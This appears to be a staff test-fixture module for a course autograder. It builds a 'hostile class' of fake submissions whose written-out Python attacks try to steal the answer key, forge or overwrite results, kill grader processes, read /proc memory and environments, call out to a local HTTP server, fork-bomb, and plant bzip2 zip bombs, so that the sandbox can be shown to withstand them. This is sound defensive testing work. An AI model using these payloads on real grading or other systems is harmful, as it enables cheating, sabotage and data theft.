"""The hostile class: real submissions that attack the grader, one per attack (staff only).

Each is the model answer with the attack written into some of its regions (or
into the zip itself); where the attack replaces a region's code, that part must
score 0 (what a stub earns), and everything else its points.

    hostile_class(starter, folder, out, grader_paths, server_port)
        {student: (zip path, parts that must score 0)}, the zips copied into folder
    batch_extras(folder, solution_zip)
        what only a class folder can hold: a zip name of 251 characters, two zips
        that map to one student, a FIFO named like a zip
    MARKER, SECRET, IPC_KEY   what the attacks leave or look for, to find afterwards

Used by staff/tests/test_adversarial.py (batch grading in bubblewrap, the real
run_autograder as the sandbox user) and bench/bench_hostile.py (the grading
process's peak memory on the class).
"""
import bz2
import contextlib
import functools
import hashlib
import http.server
import io
import json
import os
import shutil
import stat
import threading
import zipfile

import numpy as np

from cs231n.classifiers.fc_net import FullyConnectedNet
from staff.grading import grader
from staff.tests import grading_fixtures as G
from staff.tests.submissions import HELDOUT, MODEL_FILES, make_submission, prepend

MARKER = 'cs231n-hostile-%d' % os.getpid()
SECRET = 'grader-secret-%s' % hashlib.sha256(MARKER.encode()).hexdigest()[:16]
IPC_KEY = 0x23100000 + (os.getpid() % 65536) * 4     # System V keys of the IPC attack
THREADS = 60
FORKS = 200


@contextlib.contextmanager
def serve():
    """(port, hits) of a real HTTP server on 127.0.0.1 that counts the requests it gets."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'exfiltrated')

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield httpd.server_address[1], hits
    finally:
        httpd.shutdown()


# ---------------------------------------------------------------------------
# The attacks of the first hostile class: the answer key, the results, the network

def steal(targets):
    """Replace a region: find the staff's answer key by every route a student has."""
    paths = ['%s/staff/assignment/references.py' % t for t in targets]
    return lambda body: [
        '    import gc, importlib, inspect, sys as _sys\n',
        '    found = None\n',
        '    for name in ("staff.assignment.references", "references", "staff.grading.api"):\n',
        '        try:\n',
        '            found = importlib.import_module(name)\n',
        '            break\n',
        '        except Exception:\n',
        '            pass\n',
        '    for path in %r:\n' % paths,
        '        try:\n',
        '            source = open(path).read()\n',
        '            print("READ", path, len(source))\n',
        '            found = found or source\n',
        '        except Exception as e:\n',
        '            pass\n',
        '    for frame in inspect.stack():\n',
        '        for value in list(frame.frame.f_globals.values()):\n',
        '            if getattr(value, "__name__", "").endswith("references"):\n',
        '                found = value\n',
        '    for obj in gc.get_objects():\n',
        '        if callable(obj) and getattr(obj, "__module__", "") and \\\n',
        '                "staff" in str(getattr(obj, "__module__", "")):\n',
        '            found = obj\n',
        '    if found is not None:\n',
        '        print("FOUND THE ANSWER KEY", found)\n',
        '        raise RuntimeError("the answer key was reachable")\n',
        '    raise NotImplementedError("nothing found")\n',
        '\n']


def daemon(paths, seconds=15):
    """A process in a new session, double-forked, that keeps rewriting the results."""
    forged = json.dumps({'score': 1000.0, 'tests': [], 'total': 1000})
    code = ('import os, time\n'
            'if os.fork(): os._exit(0)\n'
            'os.setsid()\n'
            'end = time.time() + %d\n'
            'while time.time() < end:\n'
            '    for p in %r:\n'
            '        try:\n'
            '            open(p, "w").write(%r)\n'
            '        except OSError:\n'
            '            pass\n'
            '    time.sleep(0.005)\n' % (seconds, paths, forged))
    return prepend('import subprocess, sys as _sys',
                   'subprocess.Popen([_sys.executable, "-c", %r, %r], start_new_session=True, '
                   'stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, '
                   'stderr=subprocess.DEVNULL, env={})' % (code, MARKER),
                   'import time as _time',
                   '_time.sleep(0.3)')


def kill_grader(forge):
    """Forge the results, then SIGKILL every grading process it can find."""
    return prepend(
        'import os as _os, signal as _signal',
        'for _p in %r:' % forge,
        '    try:',
        '        open(_p, "w").write(\'{"score": 100.0, "tests": []}\')',
        '    except OSError:',
        '        pass',
        'for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:',
        '    try:',
        '        _cmd = open("/proc/%s/cmdline" % _pid, "rb").read()',
        '    except OSError:',
        '        continue',
        '    if b"staff.grading" in _cmd or b"pytest" in _cmd or b"run_autograder" in _cmd:',
        '        try:',
        '            _os.kill(int(_pid), _signal.SIGKILL)',
        '        except OSError:',
        '            pass',
        'for _pid in {_os.getppid(), 1}:',
        '    try:',
        '        _os.kill(_pid, _signal.SIGKILL)',
        '    except OSError:',
        '        pass')


def interfere(paths_to_append, peers_to_read):
    """Change the grader and the starter shared with peers; read the peers' work."""
    return prepend(
        'for _p in %r:' % paths_to_append,
        '    try:',
        '        open(_p, "a").write("\\nraise SystemExit(0)\\n")',
        '        print("CHANGED", _p)',
        '    except OSError:',
        '        pass',
        'for _p in %r:' % peers_to_read,
        '    try:',
        '        print("READ PEER", _p, len(open(_p, "rb").read()))',
        '    except OSError:',
        '        pass')


def snoop():
    """Print the grader's environment and memory, from /proc."""
    return prepend(
        'import os as _os',
        'for _pid in ["self", str(_os.getppid()), "1"] + [p for p in _os.listdir("/proc") '
        'if p.isdigit()]:',
        '    for _what in ("environ", "cmdline"):',
        '        try:',
        '            print(_pid, _what, open("/proc/%s/%s" % (_pid, _what), "rb").read()[:3000])',
        '        except OSError:',
        '            pass',
        '    try:',
        '        with open("/proc/%s/mem" % _pid, "rb") as _f:',
        '            print(_pid, "mem", _f.read(64))',
        '    except (OSError, ValueError):',
        '        pass')


def write_outside(paths):
    return prepend(
        'for _p in %r:' % paths,
        '    try:',
        '        open(_p, "w").write("x")',
        '    except OSError:',
        '        pass')


def phone_home(port):
    return prepend(
        'import socket as _socket, urllib.request as _u',
        'try:',
        '    _u.urlopen("http://127.0.0.1:%d/leak", timeout=2).read()' % port,
        '    print("NETWORK REACHED")',
        'except Exception as _e:',
        '    print("no network:", type(_e).__name__)',
        'try:',
        '    _socket.create_connection(("127.0.0.1", %d), timeout=2)' % port,
        '    print("SOCKET CONNECTED")',
        'except Exception as _e:',
        '    print("no socket:", type(_e).__name__)')



# ---------------------------------------------------------------------------
# The attacks on the grader's bounds

def fork_bomb(forks=FORKS):
    """Start `forks` processes at once (each sleeps 30 s, with MARKER in its command
    line), and say how many started."""
    return prepend(
        'import os as _os, sys as _sys',
        'if not globals().get("_FORKED"):',
        '    globals()["_FORKED"] = True',
        '    _n = 0',
        '    for _i in range(%d):' % forks,
        '        try:',
        '            if _os.fork() == 0:',
        '                try:',
        '                    _os.execv(_sys.executable, [_sys.executable, "-c", '
        '"import time; time.sleep(30)", %r])' % MARKER,
        '                finally:',
        '                    _os._exit(0)',
        '            _n += 1',
        '        except OSError:',
        '            break',
        '    print("FORKED %d" % _n)')


def spinning_threads(threads=THREADS):
    """Start `threads` threads that keep both cores busy (numpy releases the GIL), and
    keep the main thread busy too: the part is lost; its neighbours must not notice."""
    return prepend(
        'import threading as _th',
        'def _spin():',
        '    _a = np.ones(100000)',
        '    while True:',
        '        np.sqrt(_a, out=_a)',
        '_started = 0',
        'for _i in range(%d):' % threads,
        '    try:',
        '        _th.Thread(target=_spin, daemon=True).start()',
        '        _started += 1',
        '    except RuntimeError:',
        '        break',
        'print("THREADS %d" % _started)',
        '_spin()')


def sysv_ipc(key=IPC_KEY):
    """A 16 MB System V shared memory segment, written, and a message queue."""
    return prepend(
        'import ctypes as _ct',
        '_libc = _ct.CDLL(None, use_errno=True)',
        '_libc.shmat.restype = _ct.c_void_p',
        '_shm = _libc.shmget(%d, _ct.c_size_t(16 << 20), 0o1666)' % key,
        '_at = _libc.shmat(_shm, None, 0)',
        'if _at not in (None, 2 ** 64 - 1):',
        '    _ct.memset(_at, 7, 16 << 20)',
        '_q = _libc.msgget(%d, 0o1666)' % (key + 1),
        'print("IPC", _shm, _q)')


def stall_the_pipe():
    """From the next command on, stop reading the grader's pipe in the middle of a
    message: dropout_forward's inputs are 320 KB, over what a pipe holds."""
    return prepend(
        'import os as _os, time as _time',
        'if not globals().get("_STALL"):',
        '    globals()["_STALL"] = True',
        '    _real_read, _reads = _os.read, [0]',
        '    def _read(fd, n):',
        '        _reads[0] += 1',
        '        if _reads[0] > 2:',
        '            _time.sleep(10 ** 6)',
        '        return _real_read(fd, n)',
        '    _os.read = _read')


def huge_result():
    """Return 64 MB where a small array is expected."""
    return prepend('return np.ones((8, 1 << 20)), None')


def forged_message(values=1_500_000):
    """Write a message of 3 MB holding 1.5 million JSON values straight into the pipe."""
    return prepend(
        'import os as _os, struct as _st, sys as _sys',
        '_body = b\'{"event": "result", "value": [\' + b"0," * %d + b"0]}"' % values,
        '_os.write(int(_sys.argv[2]), _st.pack(">I", len(_body)) + _body)',
        'import time as _time',
        '_time.sleep(1)')


def huge_callback():
    """With the staff's layers in the net (they are answered by the grading process),
    ask affine_forward for a (8192, 1) x (1, 8192) product: 512 MB from 128 KB."""
    return prepend(
        'from cs231n import layers as _L',
        'if _L.affine_forward.__code__.co_name == "trampoline":',
        '    try:',
        '        _L.affine_forward(np.ones((8192, 1)), np.ones((1, 8192)), np.zeros(8192))',
        '        print("COMPUTED")',
        '    except Exception as _e:',
        '        print("REFUSED", str(_e)[:120])')


@functools.lru_cache(maxsize=None)
def bzip2_of_zeros(gigabytes=1):
    """bzip2 of `gigabytes` GB of zeros: under 1 KB (made once; 6 s per GB)."""
    c = bz2.BZ2Compressor(9)
    block = bytes(1 << 20)
    out = [c.compress(block) for _ in range(1024 * gigabytes)]
    return b''.join(out) + c.flush()


def add_raw_member(zip_bytes_or_path, name, raw, method=zipfile.ZIP_BZIP2):
    """The zip with a member whose stored bytes are `raw`, already compressed with
    `method`, declaring as its size the size of `raw` (a bomb declares little)."""
    if isinstance(zip_bytes_or_path, str):
        with open(zip_bytes_or_path, 'rb') as f:
            data = f.read()
    else:
        data = zip_bytes_or_path
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, 'a') as z:
        info = zipfile.ZipInfo(name)
        with z.open(info, 'w') as f:       # stored: the bytes as they are
            f.write(raw)
        info.compress_type = method        # what the central directory will say
    data = bytearray(buf.getvalue())
    # The local header says so too: its method follows signature, version and flags.
    assert data[info.header_offset:info.header_offset + 4] == b'PK\x03\x04'
    data[info.header_offset + 8:info.header_offset + 10] = method.to_bytes(2, 'little')
    if isinstance(zip_bytes_or_path, str):
        with open(zip_bytes_or_path, 'wb') as f:
            f.write(data)
        return zip_bytes_or_path
    return bytes(data)


def replace_members(path, members):
    """Rewrite the zip at path with `members` ({name: bytes}) in place of its own."""
    with zipfile.ZipFile(path) as z:
        kept = [(i, z.read(i)) for i in z.infolist() if i.filename not in members]
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        for info, data in kept:
            z.writestr(info, data)
        for name, data in members.items():
            z.writestr(name, data)
    return path


def bzip2_model():
    """A saved model whose one array is a bzip2 member that inflates to 1 GB."""
    return add_raw_member(MODEL_FILES['saved_models/best_model.npz'], 'params/W9.npy',
                          bzip2_of_zeros())


def memorising_model(heldout=HELDOUT, k=600):
    """A net that memorised k of the held-out validation images (one hidden unit per
    image, matching it alone) and knows nothing else: {best_model.npz: bytes}."""
    X = heldout.X_val[:k].reshape(k, -1).astype(np.float64) - heldout.mean.reshape(-1)
    net = FullyConnectedNet([k], input_dim=X.shape[1], num_classes=10, dtype=np.float32)
    W2 = np.zeros((k, 10))
    W2[np.arange(k), heldout.y_val[:k]] = 1.0
    net.params = {'W1': (X / (X ** 2).sum(1, keepdims=True)).T.astype(np.float32),
                  'b1': np.full(k, -0.5, np.float32), 'W2': W2.astype(np.float32),
                  'b2': np.zeros(10, np.float32)}
    files = dict(MODEL_FILES)
    files['saved_models/best_model.npz'] = G.saved_bytes(net)
    return files


def big_notebook(megabytes=60):
    """A notebook of `megabytes` MB of empty JSON objects (a few KB deflated)."""
    pad = b'{}, ' * (megabytes * 1024 * 1024 // 4)
    return b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "pad": [' + \
        pad + b'{}]}'


def deep_notebook(depth=100_000):
    return b'[' * depth + b']' * depth


# ---------------------------------------------------------------------------
# The class

def hostile_class(starter, folder, out, grader_paths, server_port, only=None, forge=()):
    """{student: (zip path, parts that must score 0)} of the hostile class (only the
    students in `only`, if given; forge: more results files its attacks try to
    overwrite); the zips are copied into folder."""
    folder = str(folder)
    made_in = os.path.join(folder, 'made')
    results = [os.path.join(out, 'results', n + '.json') for n in ('alice', 'mallory_daemon')]
    results += [os.path.join(out, 'grades.csv'), os.path.join(out, 'feedback', 'alice.txt'),
                os.path.join(out, '.grader-key'), '/autograder/results/results.json']
    results += list(forge)
    outside = ['/tmp/%s' % MARKER, '/var/tmp/%s' % MARKER, '/dev/shm/%s' % MARKER,
               os.path.expanduser('~/%s' % MARKER), os.path.join(str(folder), MARKER),
               os.path.join(starter, MARKER)]
    grader_files = [os.path.join(g, 'staff', n) for g in grader_paths
                    for n in ('grading/__init__.py', 'grading/grader.py',
                              'assignment/references.py')]
    peers = [os.path.join(str(folder), 'alice.zip'),
             os.path.join(out, 'results', 'alice.json')]
    subs = {
        'alice': ({}, set()),
        'mallory_steal': ({'affine_forward': steal(grader_paths),
                           'relu_forward': steal(grader_paths),
                           'adam': steal(grader_paths)},
                          {'affine_forward', 'relu_forward', 'adam'}),
        'mallory_daemon': ({'relu_backward': daemon(results)}, set()),
        'mallory_kill': ({'sgd_momentum': kill_grader(results)}, set()),
        'mallory_peers': ({'rmsprop': interfere(
            grader_files + [os.path.join(starter, 'cs231n', 'layers.py')], peers)}, set()),
        'mallory_snoop': ({'softmax_loss': snoop()}, set()),
        'mallory_outside': ({'svm_loss': write_outside(outside)}, set()),
        'mallory_network': ({'dropout_backward': phone_home(server_port)}, set()),
    }
    subs.update({
        # The grader's bounds (issue 27).
        'mallory_forkbomb': ({'relu_forward': fork_bomb()}, set()),
        'mallory_threads': ({'affine_forward': spinning_threads()}, {'affine_forward'}),
        'mallory_ipc': ({'sgd_momentum': sysv_ipc()}, set()),
        # dropout_backward's test calls dropout_forward first: not run again.
        'mallory_stall': ({'dropout_forward part 1': stall_the_pipe()},
                          {'dropout_forward', 'dropout_backward'}),
        'mallory_results': ({'relu_forward': huge_result()}, {'relu_forward'}),
        'mallory_json': ({'softmax_loss': forged_message()}, {'softmax_loss'}),
        'mallory_callback': ({'FullyConnectedNet.loss part 1': huge_callback()}, set()),
    })
    everything = {i.name for i in grader.load_rubric().items}
    made = {}
    for name, (edits, zero) in subs.items():
        if only is None or name in only:
            made[name] = (make_submission(starter, made_in, name, edits), zero)

    def build(name, zero, **kwargs):
        if only is None or name in only:
            made[name] = (make_submission(starter, made_in, name, **kwargs), zero)
        return made.get(name, (None,))[0]

    # Notebooks that print 0.99 beside untrained models: the accuracy points are lost.
    build('mallory_accuracy', {'two_layer_net_accuracy', 'fc_net_best_accuracy',
                               'best_model_accuracy'}, accuracies={
        nb: {'TwoLayerNet best validation accuracy': 0.99, 'Validation set accuracy': 0.99}
        for nb in ('notebooks/01_FullyConnectedNets.ipynb', 'notebooks/03_Dropout.ipynb')},
        models=G.untrained_model_files())
    # A model that memorised the held-out images: full points, flagged for a person.
    build('mallory_memorise', set(), models=memorising_model())
    # A bzip2 bomb in the zip: refused, nothing graded.
    path = build('mallory_bzip2', everything)
    if path:
        add_raw_member(path, 'cs231n/data.bin', bzip2_of_zeros())
    # ... and in a saved model: that model's line is lost.
    path = build('mallory_npz_bomb', {'best_model_accuracy'})
    if path:
        replace_members(path, {'saved_models/best_model.npz': bzip2_model()})
    # Notebooks the grader cannot parse: 60 MB of JSON, and one nested 100,000 deep.
    path = build('mallory_notebook_big', set())
    if path:
        replace_members(path, {'notebooks/01_FullyConnectedNets.ipynb': big_notebook()})
    path = build('mallory_notebook_deep', set())
    if path:
        replace_members(path, {'notebooks/03_Dropout.ipynb': deep_notebook()})
    for name, (path, _) in made.items():
        shutil.copy(path, os.path.join(folder, name + '.zip'))
    return made


LONG_NAME = 'mallory_' + 'l' * 243       # with .zip, 255 characters: the most a name holds


def batch_extras(folder, solution_zip):
    """What only a class folder holds: {student name as the zip names it: (zip, zero)}
    for a zip named with 251 characters (graded in full), and the names of two zips
    that map to one student (mallory_twin: not graded) and a FIFO named like a zip
    (never opened)."""
    folder = str(folder)
    shutil.copy(solution_zip, os.path.join(folder, LONG_NAME + '.zip'))
    shutil.copy(solution_zip, os.path.join(folder, 'mallory_twin.zip'))
    shutil.copy(solution_zip, os.path.join(folder, 'mallory_twin.ZIP'))
    os.mkfifo(os.path.join(folder, 'mallory_fifo.zip'))
    return {LONG_NAME: (os.path.join(folder, LONG_NAME + '.zip'), set())}


# ---------------------------------------------------------------------------
# What the tests check after grading the class

def tree_digest(*folders):
    """{path: sha256} of every file under folders (what must not change); anything
    else (a FIFO of the hostile class) by its mode, never opened."""
    out = {}
    for top in folders:
        for here, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d != '__pycache__']
            for name in files:
                path = os.path.join(here, name)
                mode = os.lstat(path).st_mode
                if not stat.S_ISREG(mode):
                    out[path] = oct(mode)
                    continue
                with open(path, 'rb') as f:
                    out[path] = hashlib.sha256(f.read()).hexdigest()
    return out


def strays():
    """Files the attacks may have left where the student's user could write."""
    found = []
    for top in ('/tmp', '/var/tmp', '/dev/shm'):
        for here, dirs, files in os.walk(top):
            found += [os.path.join(here, n) for n in files + dirs if MARKER in n]
    return found


def processes_with(text):
    pids = []
    for pid in os.listdir('/proc'):
        try:
            with open('/proc/%s/cmdline' % pid, 'rb') as f:
                if text.encode() in f.read():
                    pids.append(int(pid))
        except (OSError, ValueError):
            pass
    return [p for p in pids if p != os.getpid()]


def expected_total(rubric, zero):
    return rubric.total - sum(i.points for i in rubric.items if i.name in zero)


def check_outputs_leak_nothing(text, where):
    assert SECRET not in text, '%s: the grader\'s environment reached the feedback' % where
    assert 'FOUND THE ANSWER KEY' not in text and 'READ /' not in text, where
    assert 'def net_loss' not in text and 'CHANGED' not in text and 'READ PEER' not in text, where
    assert 'NETWORK REACHED' not in text and 'SOCKET CONNECTED' not in text, where


def foreign_grading():
    """True if grading tests of another checkout run on this machine now (they start
    processes as the same sandbox user)."""
    from staff.tests.submissions import ROOT
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open('/proc/%s/cmdline' % pid, 'rb') as f:
                cmd = f.read()
            cwd = os.readlink('/proc/%s/cwd' % pid)
        except OSError:
            continue
        if (b'pytest' in cmd or b'staff.grading' in cmd) and \
                not (cwd + os.sep).startswith(os.path.realpath(ROOT) + os.sep):
            return True
    return False


def strays_of(uid):
    """The processes of user uid (the sandbox user) left after grading: all of them, or,
    while another checkout's grading tests share the machine and its sandbox user, those
    that carry MARKER (the hostile class's daemons)."""
    from staff.grading import sandbox as SB
    left = SB.processes_of(uid)
    if left and foreign_grading():
        marked = set(processes_with(MARKER))
        left = [p for p in left if p in marked]
    return left
